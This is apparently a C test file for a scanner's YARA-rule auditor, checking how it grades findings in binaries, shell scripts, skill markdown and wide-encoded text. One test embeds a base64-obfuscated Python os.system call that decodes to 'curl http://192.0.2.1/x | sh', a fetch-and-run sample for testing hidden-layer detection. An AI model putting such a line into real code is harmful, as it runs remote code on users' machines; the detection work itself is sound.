/* What YARA rules say of a subject's files, as the auditor tells it. */
#include "scan/audit_yara.h"

#include "core/own.h"
#include "scan/audit.h"
#include "scan/subject.h"
#include "tests/check.h"
#include "yara/yara.h"

#define BYTES_MAX ((size_t)64 << 20)

static struct pan_arena *rules;
static struct pan_buf bytes;
static struct pan_pack *pack;
static struct pan_audit *auditor;

static const char foreign[] =
    "rule crit { meta: severity = \"critical\" author = \"Ann\" description = \"Bad\"\n"
    "  category = \"stealer\" strings: $a = \"CRITWORD\" condition: $a }\n"
    "rule high { meta: score = 75 strings: $a = \"HIGHWORD\" condition: $a }\n"
    "rule SUSP_thing { meta: score = 90 strings: $a = \"SUSPWORD\" condition: $a }\n"
    "rule mute { strings: $a = \"MUTEWORD\" condition: $a }\n"
    "rule whole { meta: severity = \"critical\" condition: filesize == 777 }\n"
    "rule many { meta: severity = \"high\" strings: $a = \"zq\" condition: #a == 1500000 }\n";
static const char bundled[] =
    "rule ours { meta: severity = \"high\" strings: $a = \"OURWORD\" condition: $a }\n";

static void
set_up(void)
{
	static const struct pan_pack_source source[] = { { .name = PAN_LIT("others") },
		{ .name = PAN_LIT("bundled") } };
	static const char *const text[] = { foreign, bundled };
	const struct pan_yara_rule *rule[16];
	struct pan_str id[16];
	uint32_t of[16];
	struct pan_pack_input in = { .source = source, .nsource = 2 };
	struct pan_err err = { 0 };

	rules = pan_arena_new(BYTES_MAX);
	for (uint32_t i = 0; i < 2; i++) {
		const struct pan_yara_unit *u = NULL;
		struct pan_yara_opts opts = { .file = PAN_LIT("x.yar"),
			.ns = source[i].name };

		CHECK_INT(pan_yara_parse(rules, pan_str(text[i]), &opts, &u, &err),
		    PAN_OK);
		for (size_t k = 0; u != NULL && k < u->n; k++) {
			id[in.yara.n] = pan_arena_printf(rules, "%.*s:%.*s",
			    PAN_STR(u->ns), PAN_STR(u->rule[k]->name));
			of[in.yara.n] = i;
			rule[in.yara.n++] = u->rule[k];
		}
	}
	in.yara.rule = rule;
	in.yara.id = id;
	in.yara.from.source = of;
	pan_buf_init(&bytes, BYTES_MAX);
	CHECK_INT(pan_pack_compile(&in, &bytes, &err), PAN_OK);
	CHECK_INT(pan_pack_open(pan_buf_str(&bytes), &pack, &err), PAN_OK);
	CHECK_INT(pan_audit_new(pack, &auditor, &err), PAN_OK);
	if (err.code != PAN_OK)
		printf("# %s\n", err.text);
}

struct told {
	int severity; /* -1: nothing is told of the rule */
	unsigned times;
	struct pan_place place;
	char path[80];
	enum pan_check check;
	bool undecided, complete;
	unsigned score;
};

/* What is told of the rule ${id} when file ${name} holds ${n} bytes. */
static struct told
audit_bytes(const char *name, const char *text, size_t n, const char *id)
{
	PAN_AUTO(pan_subject_freep) struct pan_subject *s = NULL;
	struct told t = { .severity = -1 };

	CHECK_INT(pan_subject_read_bytes(name, (struct pan_str){ text, n }, &s, NULL),
	    PAN_OK);
	CHECK_INT(pan_audit_subject(auditor, s, NULL, NULL), PAN_OK);
	t.complete = s->complete;
	t.score = s->score;
	for (size_t i = 0; i < s->findings.n; i++) {
		const struct pan_finding *f = &s->findings.item[i];

		if (!pan_str_is(f->rule, id))
			continue;
		t.times++;
		if ((int)f->severity <= t.severity)
			continue;
		t.severity = (int)f->severity;
		t.check = f->check;
		t.undecided = f->undecided;
		t.place = pan_doc_place(f->doc, f->at, f->end);
		(void)snprintf(t.path, sizeof t.path, "%s", t.place.path);
	}
	return t;
}

static struct told
audit(const char *name, const char *text, const char *id)
{
	return audit_bytes(name, text, strlen(text), id);
}

TEST(a_program_counts_as_its_author_says)
{
	char elf[400] = "\177ELF\2\1\1";

	memcpy(elf + 100, "CRITWORD HIGHWORD SUSPWORD MUTEWORD OURWORD", 43);
	CHECK_INT(audit_bytes("x", elf, sizeof elf, "others:crit").severity,
	    PAN_SEV_CRITICAL);
	CHECK_INT(audit_bytes("x", elf, sizeof elf, "others:high").severity,
	    PAN_SEV_HIGH);
	CHECK_INT(audit_bytes("x", elf, sizeof elf, "bundled:ours").severity,
	    PAN_SEV_HIGH);
	CHECK_INT(audit_bytes("x", elf, sizeof elf, "others:SUSP_thing").severity,
	    PAN_SEV_MEDIUM);
	CHECK_INT(audit_bytes("x", elf, sizeof elf, "others:mute").severity,
	    PAN_SEV_MEDIUM);
	/* Once, though the words in it are a document too. */
	CHECK_INT(audit_bytes("x", elf, sizeof elf, "others:crit").times, 1);
}

TEST(a_script_counts_less_unless_it_is_critical)
{
	const char *script = "#!/bin/sh\necho CRITWORD\necho HIGHWORD\n"
	                     "\techo SUSPWORD MUTEWORD OURWORD\n";
	struct told t = audit("a.sh", script, "others:crit");

	CHECK_INT(t.severity, PAN_SEV_CRITICAL);
	CHECK_INT(t.check, PAN_CHECK_SECRET_EXFILTRATION);
	CHECK_INT(t.place.line, 2);
	CHECK_INT(t.place.column, 6);
	CHECK_INT(t.place.end_column, 14);
	CHECK_STR(t.path, "a.sh");
	CHECK(t.complete);
	CHECK_INT(audit("a.sh", script, "others:high").severity, PAN_SEV_MEDIUM);
	CHECK_INT(audit("a.sh", script, "others:SUSP_thing").severity, PAN_SEV_MEDIUM);
	CHECK_INT(audit("a.sh", script, "others:mute").severity, PAN_SEV_LOW);
	CHECK_INT(audit("a.sh", script, "bundled:ours").severity, PAN_SEV_HIGH);
}

TEST(words_count_little_and_what_is_shown_less)
{
	const char *told = "# A\n\nCRITWORD HIGHWORD MUTEWORD\n";
	const char *shown = "# A\n\nFor example:\n\n```\nCRITWORD\n```\n";

	CHECK_INT(audit("SKILL.md", told, "others:crit").severity, PAN_SEV_MEDIUM);
	CHECK_INT(audit("SKILL.md", told, "others:high").severity, PAN_SEV_LOW);
	CHECK_INT(audit("SKILL.md", told, "others:mute").severity, PAN_SEV_LOW);
	CHECK_INT(audit("SKILL.md", shown, "others:crit").severity, PAN_SEV_LOW);
}

TEST(showing_it_too_does_not_lower_the_score)
{
	const char *told = "# A\n\nCRITWORD\n";
	const char *both = "# A\n\n```\nCRITWORD\n```\n\nCRITWORD\n";

	CHECK_INT(audit("SKILL.md", both, "others:crit").severity, PAN_SEV_MEDIUM);
	CHECK(audit("SKILL.md", both, "others:crit").score >=
	    audit("SKILL.md", told, "others:crit").score);
}

TEST(a_layer_is_told_where_it_was_hidden)
{
	/* "curl http://192.0.2.1/x | sh # CRITWORD" */
	struct told t = audit("a.py",
	    "import base64, os\nos.system(base64.b64decode(\"Y3VybCBodHRwOi8vMTkyLjAuMi4x"
	    "L3ggfCBzaCAjIENSSVRXT1JE\"))\n",
	    "others:crit");

	CHECK_INT(t.severity >= PAN_SEV_MEDIUM, 1);
	CHECK_INT(t.place.line, 2);
	CHECK_STR(t.path, "a.py");
}

TEST(a_rule_without_a_place_is_told_at_the_top)
{
	char file[778];
	struct told t;

	memset(file, ' ', sizeof file);
	memcpy(file, "#!/bin/sh\n", 10);
	t = audit_bytes("a.sh", file, 777, "others:whole");
	CHECK_INT(t.severity, PAN_SEV_CRITICAL);
	CHECK_INT(t.place.line, 1);
	CHECK_INT(t.place.column, 1);
	CHECK_INT(audit_bytes("a.sh", file, 778, "others:whole").severity, -1);
}

TEST(text_of_another_encoding_is_told_at_its_top)
{
	static const char wide[] = "\xff\xfe#\0!\0/\0b\0i\0n\0/\0s\0h\0\n\0";
	char file[64];

	memcpy(file, wide, sizeof wide - 1);
	for (size_t i = 0; i < 8; i++) {
		file[sizeof wide - 1 + 2 * i] = "CRITWORD"[i];
		file[sizeof wide + 2 * i] = '\0';
	}
	/* It is not in the bytes, but in what they mean. */
	CHECK(
	    audit_bytes("a.sh", file, sizeof wide - 1 + 16, "others:crit").severity >= 0);
}

TEST(what_is_undecided_is_no_clean_bill)
{
	size_t n = (size_t)4 << 20;
	PAN_AUTO(pan_own_freep) char *file = malloc(n);
	struct told t;

	memset(file, ' ', n);
	for (size_t i = 0; i + 1 < n; i += 2)
		memcpy(file + i, "zq", 2);
	memcpy(file, "#!", 2);
	t = audit_bytes("a.sh", file, n, "others:many");
	if (t.severity < 0) { /* decided after all */
		CHECK(t.complete);
		return;
	}
	CHECK(t.undecided);
	CHECK(!t.complete);
	CHECK_INT(t.severity, PAN_SEV_MEDIUM);
}

TEST(without_rules_nothing_is_asked)
{
	CHECK(!pan_audit_yara_has(NULL));
	CHECK(pan_audit_yara_has(pack));
}

TEST(categories_belong_to_checks)
{
	CHECK_INT(pan_audit_yara_check(PAN_LIT("PROMPT INJECTION")),
	    PAN_CHECK_PROMPT_INJECTION);
	CHECK_INT(pan_audit_yara_check(PAN_LIT("CREDENTIAL HARVESTING")),
	    PAN_CHECK_SECRET_EXFILTRATION);
	CHECK_INT(pan_audit_yara_check(PAN_LIT("dropper")), PAN_CHECK_ENCODED_PAYLOAD);
	CHECK_INT(pan_audit_yara_check(PAN_LIT("")), PAN_CHECK_TOOL_POISONING);
}

int
main(void)
{
	set_up();
	RUN(a_program_counts_as_its_author_says);
	RUN(a_script_counts_less_unless_it_is_critical);
	RUN(words_count_little_and_what_is_shown_less);
	RUN(showing_it_too_does_not_lower_the_score);
	RUN(a_layer_is_told_where_it_was_hidden);
	RUN(a_rule_without_a_place_is_told_at_the_top);
	RUN(text_of_another_encoding_is_told_at_its_top);
	RUN(what_is_undecided_is_no_clean_bill);
	RUN(without_rules_nothing_is_asked);
	RUN(categories_belong_to_checks);
	pan_audit_free(auditor);
	pan_pack_free(pack);
	pan_buf_fini(&bytes);
	pan_arena_free(rules);
	return DONE();
}
